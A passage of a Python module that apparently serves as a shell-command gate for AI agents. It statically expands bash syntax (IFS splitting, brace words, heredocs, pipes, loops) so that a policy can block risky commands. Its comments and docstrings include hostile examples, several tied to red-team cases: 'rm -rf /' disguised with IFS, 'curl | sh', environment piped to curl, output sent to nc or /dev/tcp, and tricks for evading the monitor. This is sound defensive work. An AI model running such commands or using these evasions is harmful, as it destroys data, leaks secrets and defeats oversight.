"""The shell normaliser: from a tree-sitter syntax tree to the commands bash would run.

It does what bash does before running a command, as far as that can be known
without running anything:

- quote and backslash removal, ``$'...'`` decoding, ``~`` expansion;
- parameter expansion from the known environment (HOME, PWD, variables set
  earlier in the same command, ``${VAR:-x}``, ``${VAR:+x}``) and word
  splitting on ``$IFS``, so ``rm${IFS}-rf${IFS}/`` is ``rm -rf /``;
- ``cd`` tracking, so relative paths resolve where they really point;
- recursion into everything that executes: ``sh -c``, ``eval``, ``source``,
  command substitution, process substitution, heredocs and pipes fed to
  shells and interpreters (with static decoding of ``base64 -d``/``rev``/
  ``xxd -r``), ``xargs``, ``parallel``, ``find -exec/-delete``, wrappers,
  aliases and functions defined in the same command, scripts written and then
  executed in the same command, interpreter one-liners.

What is only *data* (echo/printf arguments, commit messages, grep patterns,
heredoc bodies written to files, ``command -v``) is never parsed as a
command.  What executes but cannot be known (``$(unknown) -rf /``, ``curl |
sh``) is reported so the policy can ask or block.

This module is the tree traversal: statements, pipelines, redirects, simple
commands, and the dispatch of each command to whatever it runs.  The rest is
split by concept: :mod:`words` (word expansion), :mod:`runners` (commands that
run other code), :mod:`fanout` (``xargs``/``parallel``/``find``) and
:mod:`walkstate` (the state, budget and findings they all share).
"""

from __future__ import annotations

import posixpath
import re
from functools import partial

from agentreflex.core.util.lazyre import LazyPattern
from agentreflex.gate.code import interp
from agentreflex.gate.model import (
    DATA,
    DESCENDANT,
    DESTRUCTIVE,
    P_BLOCK,
    REMOTE,
    UNKNOWN,
    Cmd,
    OtherFd,
    has_marker,
    positional,
)
from agentreflex.gate.rules.programs import python_entry
from agentreflex.gate.shell import arith, arrays, downloads, pipes
from agentreflex.gate.shell.fanout import FanOutMixin
from agentreflex.gate.shell.parser import node_text, parse
from agentreflex.gate.shell.paths import resolve
from agentreflex.gate.shell.runners import DB_SHELL_ESCAPES, RunnersMixin, os_program
from agentreflex.gate.shell.walkstate import (
    BAD_SUBSTITUTION,
    MAX_DEPTH,
    STATEMENTS,
    BadSubstitution,
    ParseBudgetExceeded,
    ShellState,
)
from agentreflex.gate.shell.words import WordsMixin, quote
from agentreflex.gate.shell.wrappers import peel

_PRISMA_VALUED = frozenset({"--schema", "--config"})  # prisma options that take a value

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable
    from typing import Any

    from agentreflex.gate.shell.walkstate import Checks

__all__ = ["SHELLS", "ParseBudgetExceeded", "ShellState", "Walker"]

# Command names that dispatch() hands to a mixin.
SHELLS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "busybox", "toybox", "fish", "rbash"}
)
_CONTAINER_TOOLS = frozenset(
    {"docker", "podman", "nerdctl", "docker-compose", "kubectl", "oc", "k"}
)
# Tools handed a command to run on another machine or in their own environment
# (handed.PROGRAMS; a test holds them equal): read lazily, as the table is.
_HANDED = frozenset(
    {
        *("gcloud", "fly", "flyctl", "heroku", "vagrant", "doctl", "az", "multipass"),
        *("lxc", "incus", "minikube", "docker-machine", "limactl", "mosh", "nix"),
        *("nix-shell", "toolbox", "tsh", "orb", "aws", "eb", "cf", "devbox", "devenv"),
    }
)
# Terminal servers handed a command line to run or type (terminals.PROGRAMS).
_TERMINAL_SERVERS = frozenset({"tmux", "screen", "zellij", "kitty", "kitten", "wezterm"})
# Tools whose options or scripts run a shell command (execopts.PROGRAMS).
_EXEC_OPTIONS = frozenset(
    {
        "tar",
        "gtar",
        "bsdtar",
        "zip",
        "rsync",
        "sed",
        "gsed",
        "ssh",
        "scp",
        "sftp",
        "vim",
        "vi",
        "nvim",
        "ex",
        "view",
        "gvim",
        "vimdiff",
        "less",
        "gdb",
        "lldb",
    }
)
# Backtick substitutions in an unquoted heredoc body (they run).
_BACKTICKS = LazyPattern(r"`([^`]*)`")

# Respellings applied to the source before parsing (see run()).
_SIMPLE_VAR = LazyPattern(r"(?<![\\$])\$([A-Za-z_][A-Za-z0-9_]*)")
_QUOTED_OR_VAR = LazyPattern(
    r"""'[^']*'|"(?:[^"\\]|\\.)*"|\\.|(?<![\\$])\$([A-Za-z_][A-Za-z0-9_]*)""", re.DOTALL
)

# A brace word in command position ("{rm,-rf,/boot}"): bash brace-expands it
# into the command, but tree-sitter-bash takes the "{" for a group.  An empty
# "" in front means the same to bash and parses as a word.
_BRACE_COMMAND = LazyPattern(
    r"""'[^']*'|"(?:[^"\\]|\\.)*"|\\.|"""
    r"""((?:^|[;&|(`\n]|\b(?:then|do|else|elif|if|while|until|time)[ \t]|!)[ \t]*)"""
    r"""\{(?=[^\s{}();&|<>])""",
    re.MULTILINE,
)


def _brace_command(m: re.Match[str]) -> str:
    return m.group(0) if m.group(1) is None else m.group(1) + '""{'


# A backslash-newline outside single quotes: bash removes it, also inside a
# word ("git re\\<newline>set --hard" is "git reset --hard"); tree-sitter-bash
# splits the word there.
_CONTINUATION = LazyPattern(r"""'[^']*'|"(?:[^"\\]|\\.)*"|\\.""", re.DOTALL)


def _join_lines(m: re.Match[str]) -> str:
    text = m.group(0)
    if text == "\\\n":
        return ""
    if text.startswith('"'):
        return re.sub(
            r"\\(.)", lambda e: "" if e.group(1) == "\n" else e.group(0), text, flags=re.DOTALL
        )
    return text


def _brace_word(name: str) -> bool:
    """A command name that is still brace syntax bash would have expanded."""
    return ("{" in name or "}" in name) and ("," in name or ".." in name)


def _brace_var(m: re.Match[str]) -> str:
    if m.group(1) is not None:
        return "${" + m.group(1) + "}"
    text = m.group(0)
    return _SIMPLE_VAR.sub(r"${\1}", text) if text.startswith('"') else text


# Compound commands: the output of each command in them is the compound's output.
_COMPOUNDS = frozenset(
    {
        "compound_statement",
        "subshell",
        "for_statement",
        "c_style_for_statement",
        "while_statement",
        "if_statement",
        "case_statement",
    }
)


def _fd(redirect: Any) -> str:
    """The descriptor a file redirect names (``2`` of ``2>/dev/null``; "" when none)."""
    fd = next((c for c in redirect.named_children if c.type == "file_descriptor"), None)
    return node_text(fd) if fd is not None else ""


def _compound(node: Any) -> bool:
    """A compound command, bare or with its own redirects (``{ ...; } 2>/dev/null``)."""
    if node.type == "redirected_statement":
        body = next((c for c in node.named_children if c.type in STATEMENTS), None)
        return body is not None and body.type in _COMPOUNDS
    return node.type in _COMPOUNDS


# Commands that print nothing on stdout (a pause or a test between the lines a group prints).
_SILENT = frozenset(
    {
        "sleep", "true", "false", ":", "cd", "wait", "test", "[", "shift", "usleep", "break",
        "continue", "return", "exit", "read", "let", "unset", "umask",
    }
)  # fmt: skip
_OUT_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>"})


# programs that may be a framework's console (``python manage.py shell``, ``php artisan
# tinker``, ``bin/rails runner``): their code is judged as their interpreter's
_CONSOLE_HOSTS = frozenset({"rails", "python", "python3", "php", "manage.py"})


class Walker(WordsMixin, RunnersMixin, FanOutMixin):
    """Walks one command string (and everything it runs) into :class:`Cmd` objects.

    This class is the tree traversal (statements, pipelines, redirects, simple
    commands, and dispatch to what a command runs); word expansion, code-running
    commands and fan-out tools are its mixins.
    """

    # --- entry -----------------------------------------------------------

    def run(self, source: str, depth: int = 0, via: str = "") -> None:
        """Parse ``source`` and walk every statement in it."""
        if depth > MAX_DEPTH:
            self._ask("GATE-PARSE-TOO-DEEP", source, "Nesting is too deep to analyse.")
            return
        if "\\\n" in source:
            source = _CONTINUATION.sub(_join_lines, source)
        if "${{" in source:  # a ${{ template }}: bash stops at it ("bad substitution")
            source = _TEMPLATE.sub("${" + BAD_SUBSTITUTION + "}", source)
        if "$" in source:
            # tree-sitter-bash mis-splits some "$NAME" spellings ("rm$IFS-rf$IFS/");
            # "${NAME}" means the same to bash and parses reliably.
            # (only outside single quotes, where "$d" is literal text: sed '1,$d')
            source = _QUOTED_OR_VAR.sub(_brace_var, source)
        root = parse(source)
        if root.has_error and "{" in source:
            fixed = _BRACE_COMMAND.sub(_brace_command, source)
            if fixed != source:
                again = parse(fixed)
                if not again.has_error:
                    source, root = fixed, again
        if root.has_error:
            self.parse_errors.append(source)
        if depth == 0:
            self._functions_exported = bool(_EXPORTS_FUNCTIONS.search(source))
        errexit = self.state.errexit
        self.stmt(root, depth, via=via)
        if depth:
            self.state.errexit = errexit  # set -e in a child shell ends with it
        if depth == 0 and self._bodies:
            self._uncalled_functions(source)

    # --- statements ------------------------------------------------------

    def stmt(
        self, node: Any, depth: int, stdin_from: Cmd | None = None, via: str = ""
    ) -> Cmd | None:
        """Walk one statement node; return the command it ran (for pipes).

        A statement holding a ``${{ template }}`` does not run: bash cannot expand it.
        bash then stops the whole script, but another shell (zsh) may go on, so the
        statements after it are still judged.
        """
        try:
            return self._stmt(node, depth, stdin_from, via)
        except BadSubstitution:
            self._ok = frozenset()
            return None
        finally:
            if node.type not in _KEEPS_CHECKS:
                self._ok = frozenset()
            if node.type not in ("list", "compound_statement", "subshell"):
                self._survive = self._ok

    def _stmt(
        self, node: Any, depth: int, stdin_from: Cmd | None = None, via: str = ""
    ) -> Cmd | None:
        self._tick()
        if self.state.refs:
            self._follow_refs()
        if self.state.unfollowed:
            self._unfollow()
        t = node.type
        if t == "ERROR":  # a[a[0]]=x: what bash runs here the tree doesn't say (rt103)
            self.children(node, depth, via)
            self._forget_all()
            return None
        if t == "command":
            return self.command(node, depth, [], None, stdin_from, via)
        if t == "redirected_statement":
            return self.redirected(node, depth, stdin_from, via)
        if t == "pipeline":
            return self.pipeline(node.named_children, depth, stdin_from, via)
        if t == "list":
            self._list(node, depth, via)
            return None
        if t == "if_statement":
            self._if(node, depth, via)
            return None
        if t == "test_command":
            self.children(node, depth, via)
            text = node_text(node)
            if "sum" in text:  # [ "$(sha256sum F | cut -d' ' -f1)" = HEX ]
                from agentreflex.gate.shell import verify

                self._ok = self._pinned(verify.pinned_test(text), self.state.cwd)
            return None
        if t == "function_definition":
            self.function(node, depth)
            return None
        if t in ("variable_assignment", "variable_assignments"):
            for a in [node] if t == "variable_assignment" else node.named_children:
                if a.type == "variable_assignment":
                    key, value = self.assignment(a, depth)
                    self.state.vars[key] = value
            return None
        if t == "declaration_command":
            self.declaration(node, depth)
            return self._listing(node, via)
        if t == "unset_command":
            names = self._unset(node, depth)
            cmd = Cmd(["unset", *names], node_text(node), self.state.cwd, via=via)
            self.cmds.append(cmd)
            return cmd
        if t == "for_statement":
            self.for_loop(node, depth)
            return None
        if t == "subshell":
            self._apart(lambda: self.children(node, depth, via))
            return None
        if t == "comment":
            return None
        if t == "compound_statement" and node_text(node).startswith("(("):
            for part in node.named_children:  # (( n = $(cmd) )) runs cmd
                self.side_effects(part, depth)
            arith.run(node_text(node)[2:-2], self.state.vars)  # (( n++ )) (red-team rt94)
            return None
        if t == "while_statement" and stdin_from is not None:
            # find DIR | while read f; do ...: the loop's commands with no input of their
            # own read the pipe, read among them (red-team rt89)
            with self._fed_by(Cmd([":"], node_text(node), self.state.cwd, stdin_from=stdin_from)):
                self._repeated(lambda: self.children(node, depth, via))
            return None
        if t == "while_statement":
            once = _RUNS_ONCE.match(node_text(node)) is not None
            self._repeated(lambda: self.children(node, depth, via), once)
            return None
        if t == "case_statement":  # which arm runs, if any, is not known
            before = self._snapshot()
            self.children(node, depth, via)
            self._maybe_ran(before)
            return None
        if t == "c_style_for_statement":
            self._c_for(node, depth, via)
            return None
        self.children(node, depth, via)
        return None

    def _c_for(self, node: Any, depth: int, via: str) -> None:
        """``for ((i = 0; i < n; i++)); do ...; done``: the start once, then each pass the
        test, the body and the step, as bash's arithmetic runs them (red-team rt94)."""
        tests = node.children_by_field_name("condition")
        steps = node.children_by_field_name("update")
        for start in node.children_by_field_name("initializer"):
            self.side_effects(start, depth)  # for ((i = $(cmd); ...)) runs cmd
            arith.run(node_text(start), self.state.vars)
        for part in [*tests, *steps]:
            self.side_effects(part, depth)
        body = node.child_by_field_name("body")

        def one_pass() -> None:
            for test in tests:
                arith.run(node_text(test), self.state.vars)
            if body is not None:
                self.stmt(body, depth, via=via)
            for step in steps:
                arith.run(node_text(step), self.state.vars)

        self._repeated(one_pass)

    def _repeated(self, walk: Callable[[], None], once: bool = False) -> None:
        """A loop walked as its first pass, then once more with what that pass changed
        unknown, as it is in the passes after (``i=$((i+1))``, ``a+=(X)``: red-team
        rt94); what it changed is unknown after the loop, which may not have run at all
        (``while false; do d=build; done`` leaves d: red-team rt104), unless it runs
        ``once`` at least (``while true``): then what both passes set alike stays."""
        vars_ = self.state.vars
        before = dict(vars_)
        start = self._snapshot()
        walk()
        first = dict(vars_)
        changed = {k for k in {*before, *first} if before.get(k) != first.get(k)}
        if not changed:
            return
        for k in changed:
            vars_[k] = UNKNOWN
        walk()
        if not once:
            self._maybe_ran(start)
            return
        for k in changed:
            if vars_.get(k) != first.get(k):
                vars_[k] = UNKNOWN

    def _apart(self, walk: Callable[[], object]) -> None:
        """Walk a part bash runs in a child shell (``( ... )``, a job put in the
        background with ``&``): the folder, functions, set -e and variables it sets end
        with it."""
        saved, bodies, errexit = self.state.cwd, dict(self._bodies), self.state.errexit
        saved_vars = dict(self.state.vars)
        walk()
        self.state.cwd, self._bodies, self.state.errexit = saved, bodies, errexit
        self.restore_vars(saved_vars)

    def children(self, node: Any, depth: int, via: str = "") -> None:
        # set -e is modelled in the command's own shell: a child shell (sh -c) that
        # stops at a failed check does not stop the command that started it
        sequence = depth == 0 and node.type in _SEQUENCES
        for child in node.named_children:
            if child.type in STATEMENTS and _in_background(child):
                # d=build & rm -rf $d: the job is a child shell (red-team rt104)
                self._apart(partial(self.stmt, child, depth, via=via))
            elif child.type in STATEMENTS:
                self.stmt(child, depth, via=via)
                if sequence and self.state.errexit and self._survive:
                    # set -e: past a failed check the script has stopped
                    self._vouch(self._survive)
            elif child.type not in ("comment", "heredoc_body"):
                self.side_effects(child, depth)

    # --- checks that stop a run when they fail (shell/verify.py) ---------

    def _list(self, node: Any, depth: int, via: str) -> None:
        """``a && b || c``: what follows ``&&`` runs only if what precedes it succeeded,
        so a pinned check there vouches for its file; after ``||`` nothing does.  What a
        part after the first sets may not have happened: known along an ``&&`` chain,
        unknown once a ``||`` joins the ways and after the list (:meth:`_maybe_ran`)."""
        passed: Checks = frozenset()  # checks every way here has passed
        op = ""
        last: Checks = frozenset()
        before: tuple[dict[str, str], str] | None = None  # once the first part ran
        joined = False  # a || came before: two ways reach what follows
        for child in _chain(node):
            if not child.is_named:
                op = node_text(child)
                joined = joined or op == "||"
                continue
            if child.type not in STATEMENTS:
                if child.type != "comment":
                    self.side_effects(child, depth)
                continue
            if op and before is None:
                before = self._snapshot()
            elif before is not None and joined:
                self._maybe_ran(before)
            scope = passed if op == "&&" else frozenset()
            undo = self._vouch(scope, keep=False)
            self.stmt(child, depth, via=via)
            self._unvouch(undo)
            last = self._ok
            passed = passed | self._ok if op in ("", "&&") else frozenset()
        if before is not None:  # a cd along a pure && chain is taken as done, as after ;
            self._maybe_ran(before, keep_cwd=not joined)
        self._ok = passed
        # set -e stops the script when the command after the final && fails
        self._survive = last if op == "&&" else frozenset()

    def _if(self, node: Any, depth: int, via: str) -> None:
        """``if CHECK; then ...``: the then-branch runs only when the check passed."""
        passed: Checks = frozenset()
        condition = True
        undo: list[tuple[str, str]] = []
        before: tuple[dict[str, str], str] | None = None  # once the first check ran
        for child in node.children:
            if not child.is_named:
                if child.type == "then" and condition:
                    condition = False
                    undo = self._vouch(passed, keep=False)
                    before = self._snapshot()
                continue
            if child.type in ("elif_clause", "else_clause"):
                self._unvouch(undo)
                undo = []
                self.stmt(child, depth, via=via)
            elif child.type in STATEMENTS:
                self.stmt(child, depth, via=via)
                if condition:
                    passed = self._ok
            elif child.type != "comment":
                self.side_effects(child, depth)
        self._unvouch(undo)
        if before is not None:
            self._maybe_ran(before)

    def _snapshot(self) -> tuple[dict[str, str], str]:
        """The variables and the folder, for :meth:`_maybe_ran`."""
        return dict(self.state.vars), self.state.cwd

    def _maybe_ran(self, before: tuple[dict[str, str], str], keep_cwd: bool = False) -> None:
        """After a part that may not have run (the right of ``&&`` or ``||``, an if's
        branches, a case's arms, a loop's body): a variable or the folder it changed
        holds either value, so it is unknown.  ``d=/etc; [ -d b ] && d=b; rm -rf $d``
        removes /etc when there is no b; the walk took d as b (red-team rt104).
        ``keep_cwd``: the folder a pure ``&&`` chain ``cd``'d to stays, as a ``cd`` before
        ``;`` is taken as done: ``mkdir -p build && cd build && make; cd ..; rm -rf
        build`` is everyday work, which an unknown folder after ``cd ..`` blocked."""
        old, vars_ = before[0], self.state.vars
        for k in {*old, *vars_}:
            if old.get(k) != vars_.get(k):
                vars_[k] = UNKNOWN
        if not keep_cwd and self.state.cwd != before[1]:
            self.state.cwd = UNKNOWN

    def _vouch(self, checks: Checks, keep: bool = True) -> list[tuple[str, str]]:
        """Files checked against a pin count as reviewed: the download recorded for them
        when they were checked is forgotten, so running them is an ordinary local script
        run (one downloaded again after the check is not).  Returns what to put back when
        the scope ends (unless ``keep``)."""
        undo: list[tuple[str, str]] = []
        for path, stamp in checks:
            key = self._holder(path)
            text = self.state.written.get(key)
            if text is not None and REMOTE in text and self._stamps.get(key, -1) == stamp:
                if key == path:  # a nameless download's other files stay downloads
                    del self.state.written[path]
                self._reviewed[path] = text
                if not keep:
                    undo.append((path, text))
        return undo

    def _unvouch(self, undo: list[tuple[str, str]]) -> None:
        for path, text in reversed(undo):
            self.state.written.setdefault(path, text)  # unless downloaded again since
            if self._reviewed.get(path) == text:
                del self._reviewed[path]

    def _pinned(self, names: list[str], cwd: str) -> Checks:
        """Each file named, with the write it was checked after."""
        if cwd == UNKNOWN:
            return frozenset()
        paths = [resolve(n, self.where, cwd) for n in names if n not in ("", "-")]
        return frozenset(
            (p, self._stamps.get(self._holder(p), -1))
            for p in paths
            if not has_marker(p) and DESCENDANT not in p
        )

    def _checks(self, cmd: Cmd) -> Checks:
        """The files ``cmd`` checks against a pin (and the notes for checks that are none)."""
        if cmd.name in ("gpg", "gpg2") and (
            "--import" in cmd.args or any(a.startswith("--fetch-key") for a in cmd.args)
        ):
            fed = pipes.output_text(cmd.stdin_from, self.state.written) if cmd.stdin_from else None
            files = [
                pipes.file_text(self.state.written, resolve(a, self.where, cmd.cwd))
                for a in cmd.args
                if not a.startswith("-") and cmd.cwd != UNKNOWN
            ]
            if any(t is not None and REMOTE in t for t in [fed, *files]) or any(
                a.startswith("--fetch-key") for a in cmd.args
            ):
                self._key_downloaded = True
            return frozenset()
        if cmd.name not in _CHECKERS or cmd.cwd == UNKNOWN:
            return frozenset()
        from agentreflex.gate.shell import verify  # only for a checksum or signature tool

        found = verify.checked(
            cmd,
            self.state.written,
            lambda n: resolve(n, self.where, cmd.cwd),
            self._key_downloaded,
            self._reviewed,
        )
        for name, why in found.unpinned.items():
            if name == "*":  # a list downloaded: which files it names is unknown
                self._unpinned["*"] = why
            elif not has_marker(name):
                self._unpinned[resolve(name, self.where, cmd.cwd)] = why
        return self._pinned(found.files, cmd.cwd)

    def side_effects(self, node: Any, depth: int) -> None:
        """Walk the substitutions inside a non-statement node (they execute)."""
        stack = [node]
        while stack:
            n = stack.pop()
            self._tick()
            if n.type in ("command_substitution", "process_substitution"):
                self.substitution(n, depth)
            elif n.type in STATEMENTS:
                self.stmt(n, depth)
            else:
                stack.extend(n.named_children)

    def pipeline(
        self,
        parts: list[Any],
        depth: int,
        stdin_from: Cmd | None,
        via: str,
        tail: tuple[list[tuple[str, str]], Cmd | None] | None = None,
    ) -> Cmd | None:
        """``tail``: the redirects written after the pipeline and the command a ``<``
        among them reads from a process substitution; bash binds them to its last
        command (``echo hi | sh < <(echo X)``: sh reads X), the grammar to the whole.

        Each part of a pipe runs in a subshell in bash, the last in the shell itself in
        zsh: a variable a part sets (``echo X | read d``, ``printf -v d X | cat``) is
        not known after it (red-team rt94)."""
        kept = [p for p in parts if p.type in STATEMENTS]
        before = dict(self.state.vars) if len(kept) > 1 else None
        try:
            return self._pipeline(kept, depth, stdin_from, via, tail)
        finally:
            if before is not None:
                now = self.state.vars
                for name in {*before, *now}:
                    if now.get(name) != before.get(name):
                        now[name] = UNKNOWN

    def _pipeline(
        self,
        kept: list[Any],
        depth: int,
        stdin_from: Cmd | None,
        via: str,
        tail: tuple[list[tuple[str, str]], Cmd | None] | None,
    ) -> Cmd | None:
        prev = stdin_from
        for n, part in enumerate(kept):
            if prev is not None:
                prev.pipes_out = True
            if n + 1 == len(kept) and tail is not None and part.type == "command":
                redirects, fed = tail
                return self.command(part, depth, redirects, None, fed or prev, via)
            if n + 1 < len(kept) and _compound(part):
                seen = len(self.cmds)
                self.stmt(part, depth, stdin_from=prev, via=via)
                prev = self._compound_output(part, self._printers(self.cmds[seen:]), via)
            else:
                seen = len(self.cmds)
                prev = self.stmt(part, depth, stdin_from=prev, via=via)
                if n + 1 < len(kept) and prev is not None and prev.name in self._bodies:
                    # f | nc H P: what the function's body prints goes into the pipe
                    body = [c for c in self.cmds[seen:] if c is not prev]
                    prev = self._compound_output(part, self._printers(body), via) or prev
        return prev

    def _printers(self, ran: list[Cmd]) -> list[Cmd]:
        """The commands of a ``{ ...; }`` group, ``( ... )`` subshell, loop or ``if`` whose
        output is the compound's own: not in a substitution, an inner pipe or a file.
        Only a redirect of standard output sends it to a file: ``crontab -l 2>/dev/null``
        still prints the table into the pipe (red-team rt86)."""
        return [
            c
            for c in ran
            if c.via != "substitution"
            and not c.pipes_out
            and c.name not in _SILENT
            and not any(r[0] in _OUT_REDIRECTS and not isinstance(r, OtherFd) for r in c.redirects)
        ]

    def _compound_output(self, node: Any, printers: list[Cmd], via: str) -> Cmd | None:
        """What a compound command writes into a pipe, as one producer for the next
        command: ``{ echo FLUSHALL; sleep 1; } | nc redis 6379`` types FLUSHALL to the
        port, ``( echo 'rm -rf ~' ) | sh`` runs it, ``{ env; } | curl -d @- URL`` sends
        the environment."""
        for c in printers:
            c.pipes_out = True
        if len(printers) <= 1:
            return printers[0] if printers else None
        texts = [pipes.output_text(c, self.state.written) for c in printers]
        out = Cmd(["cat"], node_text(node), self.state.cwd, via=via)
        if all(t is not None and t != REMOTE for t in texts):
            # each part's text as printed: (printf 'rm -rf '; echo DIR) | sh is one
            # command, printf ending no line it was not told to (rt86)
            out.stdin_text = "".join(
                (t or "") + pipes.line_end(c) for c, t in zip(printers, texts, strict=True)
            )
            return out
        from agentreflex.gate.rules.exfil import source_of  # only for a compound's unknown output

        unknown = [c for c, t in zip(printers, texts, strict=True) if t is None or t == REMOTE]
        out.partial = "\n".join(UNKNOWN if t is None else t for t in texts) + "\n"
        out.stdin_from = next(
            (c for c in unknown if source_of(c, self.where)),
            next((c for c, t in zip(printers, texts, strict=True) if t == REMOTE), unknown[0]),
        )
        return out

    def redirected(self, node: Any, depth: int, stdin_from: Cmd | None, via: str) -> Cmd | None:
        body = None
        redirects: list[tuple[str, str]] = []
        stdin_text: str | None = None
        after: list[Any] = []
        loose: list[Any] = []
        not_stdout: list[tuple[str, str]] = []  # 2>/dev/null: the redirect keeps no fd
        substituted: Cmd | None = None  # the input of a ``< <(...)`` redirect
        herestring = False  # tree-sitter-bash reads ``> f <<< TEXT`` as ``> f``, ``<<``, ``< TEXT``
        for child in node.named_children:
            if child.type == "ERROR" and node_text(child) == "<<":
                herestring = True
                continue
            if herestring and child.type == "file_redirect" and not _fd(child):
                herestring = False
                kids = [k for k in child.named_children if k.type != "file_descriptor"]
                stdin_text = " ".join(self.words(kids, depth)) + "\n"
                continue
            herestring = False
            if child.type == "heredoc_redirect":
                stdin_text = self.heredoc(child, depth)
                loose.extend(_dropped_words(node, body, child))
                after.extend(c for c in child.named_children if c.type in STATEMENTS)
                # ``cat <<EOF > file``: the file redirect is parsed inside the heredoc
                redirects.extend(self._heredoc_files(child, depth))
            elif child.type == "herestring_redirect":
                stdin_text = " ".join(self.words(child.named_children, depth)) + "\n"
            elif child.type == "file_redirect":
                before = len(self.cmds)
                redirects.append(self.redirect(child, depth))
                loose.extend(_redirect_words(child))
                if _fd(child) not in ("", "1"):
                    not_stdout.append(redirects[-1])
                if (
                    redirects[-1][0] == "<"
                    and _fd(child) in ("", "0")
                    and any(k.type == "process_substitution" for k in child.named_children)
                ):  # nc H P < <(echo FLUSHALL): what the substitution prints is the input
                    fed = [c for c in self.cmds[before:] if not c.pipes_out]
                    substituted = fed[-1] if fed else substituted
            elif body is None and child.type in STATEMENTS:
                body = child
        cmd: Cmd | None = None
        if body is not None and body.type == "command":
            fed_by = substituted or stdin_from  # a redirect wins over a pipe
            cmd = self.command(body, depth, redirects, stdin_text, fed_by, via, loose)
        elif body is not None and body.type == "pipeline":
            kids = [k for k in body.named_children if k.type in STATEMENTS]
            if kids and kids[-1].type == "command" and not stdin_text:
                cmd = self.pipeline(kids, depth, stdin_from, via, (redirects, substituted))
            else:
                cmd = self.pipeline(kids, depth, substituted or stdin_from, via)
                if cmd is not None:
                    cmd.redirects.extend(redirects)
        elif body is not None and body.type == "list" and not stdin_text:
            # tree-sitter hangs `a && echo x > f` on the whole list; bash binds the
            # redirect to the list's last command (an echo redirected prints nothing)
            seen = len(self.cmds)
            self.stmt(body, depth, stdin_from, via)
            last = next((c for c in reversed(self.cmds[seen:]) if c.via == via), None)
            if last is not None:
                last.redirects.extend(redirects)
                self._record_writes(last, depth)  # what it prints lands in the file
                if _after_and(body):  # a && sha256sum -c < s: the check reads s
                    self._ok = self._ok | self._checks(last)
                cmd = last
            else:
                cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
                self.cmds.append(cmd)
        else:
            seen = len(self.cmds)
            if body is not None and body.type in ("compound_statement", "subshell"):
                # { sh; } < job.sh: the group's commands read the group's input
                group = Cmd(
                    [":"],
                    node_text(node),
                    self.state.cwd,
                    redirects=redirects,
                    stdin_text=stdin_text,
                    stdin_from=substituted or stdin_from,
                )
                with self._fed_by(group):
                    self.stmt(body, depth, stdin_from, via)
            elif body is not None:
                self.stmt(body, depth, stdin_from, via)
            out = [r for r in redirects if r[0] in _OUT_REDIRECTS and r not in not_stdout]
            if out and body is not None and body.type in _COMPOUNDS:
                printers = self._printers(self.cmds[seen:])
                for c in printers:  # { ...; } > /dev/tcp/H/P: each writes there
                    c.redirects.extend(out)
                self._group_written(printers, out)
            cmd = Cmd([":"], node_text(node), self.state.cwd, redirects=redirects, via=via)
            self.cmds.append(cmd)
        for extra in after:
            if extra.type == "pipeline":
                kids = [k for k in extra.named_children if k.type in STATEMENTS]
                if cmd is not None:
                    cmd.pipes_out = True
                cmd = self.pipeline(kids, depth, cmd, via)
            else:
                self.stmt(extra, depth, via=via)
        return cmd

    def _group_written(self, printers: list[Cmd], out: list[tuple[str, str]]) -> None:
        """``(crontab -l; echo ENTRY) > f``: f holds what the group prints, ENTRY among it
        whatever the unreadable parts add (each an UNKNOWN), for a later ``crontab f``."""
        texts = [pipes.output_text(c, self.state.written) for c in printers]
        text = "\n".join(UNKNOWN if t is None else t for t in texts) + "\n"
        for op, target in out:
            if op in (">", ">>", ">|", "&>", "&>>") and not has_marker(target):
                self.state.written[resolve(target, self.where, self.state.cwd)] = text

    def heredoc(self, node: Any, depth: int) -> str:
        """The body fed to stdin; substitutions in an unquoted body execute."""
        start = next((c for c in node.named_children if c.type == "heredoc_start"), None)
        quoted = start is not None and any(q in node_text(start) for q in "'\"\\")
        body = next((c for c in node.named_children if c.type == "heredoc_body"), None)
        if body is None:
            return ""
        text = node_text(body)
        if not quoted:
            for sub in body.named_children:
                if sub.type == "command_substitution":
                    self.substitution(sub, depth)
            for m in _BACKTICKS.finditer(text):
                self.run(m.group(1), depth + 1, via="heredoc `...`")
        return text

    def _heredoc_files(self, node: Any, depth: int) -> list[tuple[str, str]]:
        return [self.redirect(c, depth) for c in node.named_children if c.type == "file_redirect"]

    def redirect(self, node: Any, depth: int) -> tuple[str, str]:
        op = ""
        target = ""
        fd = ""
        for child in node.children:
            if not child.is_named:
                op += node_text(child)
            elif child.type == "file_descriptor":
                fd = node_text(child)
            elif child.type == "ERROR" and op == "<" and node_text(child) == ">":
                op = "<>"  # the grammar has no <> (open for reading and writing)
            else:
                target = "".join(self.expand(child, depth, split=False))
                break
        if op == "<>" and fd in ("", "0"):
            op = "<"  # stdin opened for reading and writing: read like <, never truncated
        if target.startswith(("/dev/tcp/", "/dev/udp/")) and fd.isdigit():
            self.state.sockets[fd] = target  # exec 3<>/dev/tcp/host/port
        elif op in (">&", "<&", ">>&") and target in self.state.sockets:
            return (">" if op[0] == ">" else "<"), self.state.sockets[target]
        if fd not in ("", "1") and op in (">", ">>", ">|"):
            return OtherFd((op, target))  # 2> err.log: not where the output goes
        return op, target

    def function(self, node: Any, depth: int) -> None:
        """Define a function: its body runs when it is called, not here."""
        name_node = node.child_by_field_name("name") or node.named_children[0]
        name = "".join(self.expand(name_node, depth, split=True)).strip()
        self.state.functions.add(name)
        body = node.child_by_field_name("body") or node.named_children[-1]
        self._bodies[name] = (body, depth)
        self._called.discard(name)

    def call(self, name: str) -> None:
        """Walk the body of a function defined in this command, where it is called; the
        names it declared local get back the values they had before (rt103)."""
        body, depth = self._bodies[name]
        self._called.add(name)
        self._function.append(name)
        self._locals.append({})
        try:
            self.stmt(body, depth)
        finally:
            self._function.pop()
            for local, before in self._locals.pop().items():
                self._drop(local)
                self.state.vars.update(before)

    def _local(self, name: str) -> None:
        """``local NAME`` in the function being walked: NAME's value (and elements) kept
        to be given back when it returns, as bash's ``local`` scopes it."""
        frame = self._locals[-1]
        if name not in frame:
            vars_ = self.state.vars
            frame[name] = {k: vars_[k] for k in vars_ if k == name or k.startswith(name + "[")}

    def _drop(self, name: str) -> None:
        """``name`` and its elements removed from the walk's variables."""
        vars_ = self.state.vars
        for key in [k for k in vars_ if k == name or k.startswith(name + "[")]:
            del vars_[key]

    def _uncalled_functions(self, source: str) -> None:
